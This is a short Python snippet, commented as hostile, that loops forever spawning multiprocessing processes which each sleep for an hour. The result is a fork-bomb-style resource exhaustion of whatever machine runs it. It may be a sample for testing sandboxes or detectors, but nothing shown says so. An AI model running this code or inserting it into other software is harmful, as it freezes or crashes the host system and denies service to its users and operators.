# hostile: processes started without end through multiprocessing
import multiprocessing
import time

def spin():
    time.sleep(3600)

while True:
    multiprocessing.Process(target=spin).start()
